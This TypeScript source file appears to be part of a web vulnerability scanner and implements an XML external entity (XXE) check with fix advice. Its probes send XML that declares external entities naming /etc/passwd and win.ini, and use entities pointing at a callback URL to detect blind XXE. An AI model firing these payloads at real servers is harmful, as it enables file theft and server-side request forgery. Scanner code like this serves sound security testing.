import type { InputPoint } from '../ground/exchange.ts';
import { excerpt, observationAt } from './answers.ts';
import { firstCalled } from './callback.ts';
import type { ActiveCheck, Observation, Prober } from './check.ts';
import { fileIn } from './pathTraversal/check.ts';

const xmlLike = /^\s*<[?!a-z]/i;
const telling = /xml|soap|saml|rss|feed|svg|wsdl|doc|data|payload|import|content/i;

export const xmlEntities: ActiveCheck = {
  id: 'xxe',
  kind: 'active',
  title: 'An XML document can make your server hand out its files',
  technicalName: 'XML external entities',
  severity: 'high',
  cwe: 'CWE-611',
  flaw: 'xml',
  awaitsCall: true,
  minLevel: 'normal',
  advice: {
    risk: 'A stranger can read files of the server and send it to fetch addresses inside your network.',
    fix: 'Turn off document type declarations and external entities in the XML parser (disallow-doctype-decl in Java, no LIBXML_NOENT in PHP, defusedxml in Python), or take JSON instead.',
    references: ['OWASP XML External Entity Prevention Cheat Sheet', 'CWE-611'],
  },
  appliesTo: ({ place, name, value }) =>
    place === 'xml' ||
    place === 'json' ||
    (place !== 'header' && (xmlLike.test(value) || telling.test(name))),
  async probe(point, prober) {
    const carrier = carrierOf(point);
    if (carrier === null) return [];
    const { target, original } = carrier;
    const proof = await readsFile(target, original, prober);
    return proof.length > 0 ? proof : callsOut(target, original, prober);
  },
};

/** Where the document goes, and what it looks like when the site makes it. */
function carrierOf(point: InputPoint): { target: InputPoint; original: string } | null {
  if (point.place !== 'json') {
    return { target: point, original: xmlLike.test(point.value) ? point.value : '<r>test</r>' };
  }
  // Frameworks that read JSON often read XML too when they are told that it is XML.
  const { json, ...rest } = point.request;
  const fields = Object.entries(point.request.fields);
  if (fields.length === 0 || fields[0]?.[0] !== point.name) return null;
  const original = `<root>${fields.map(([name, value]) => `<${name}>${escaped(value)}</${name}>`).join('')}</root>`;
  const request = { ...rest, encoding: 'xml' as const, fields: { body: original } };
  return { target: { ...point, place: 'xml', value: original, request }, original };
}

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** The document with a declaration in front, and the entity as the text of every element. */
function withEntity(original: string, declaration: string, entity: string): string {
  const bare = original
    .replace(/^\s*<\?xml[^>]*\?>/i, '')
    .replace(/<!DOCTYPE[^>[]*(?:\[[^\]]*\])?[^>]*>/i, '');
  const root = /<([A-Za-z_][\w.:-]*)/.exec(bare)?.[1] ?? 'r';
  const filled = bare.replace(/>([^<>]+)</g, (whole, text: string) =>
    text.trim() === '' ? whole : `>${entity}<`,
  );
  const body = filled.includes(entity) ? filled : `<${root}>${entity}</${root}>`;
  return `<?xml version="1.0"?><!DOCTYPE ${root} [${declaration}]>${body}`;
}

async function readsFile(
  point: InputPoint,
  original: string,
  prober: Prober,
): Promise<Observation[]> {
  // An entity of the document's own first: parsers that ignore it ignore the others too, unless blind.
  for (const file of ['file:///etc/passwd', 'file:///c:/windows/win.ini']) {
    const document = withEntity(original, `<!ENTITY x SYSTEM "${file}">`, '&x;');
    const answer = await prober.send(point, document);
    const proof = fileIn(answer.response.body);
    if (proof === null) continue;
    const harmless = await prober.send(point, withEntity(original, '<!ENTITY x "test">', '&x;'));
    if (fileIn(harmless.response.body) !== null) return [];
    const evidence = `An entity that names ${file} was filled in; the answer shows ${proof.file}:\n${excerpt(answer.response.body, proof.index, 150)}`;
    return [observationAt(point, evidence)];
  }
  return [];
}

async function callsOut(
  point: InputPoint,
  original: string,
  prober: Prober,
): Promise<Observation[]> {
  const called = await firstCalled(point, prober, [
    (url) => withEntity(original, `<!ENTITY x SYSTEM "${url}">`, '&x;'),
    (url) => withEntity(original, `<!ENTITY % x SYSTEM "${url}"> %x;`, 'test'),
  ]);
  if (called === undefined) return [];
  const evidence = `An XML document that names ${called.url} as an entity made the site's server call that address.`;
  return [observationAt(point, evidence)];
}
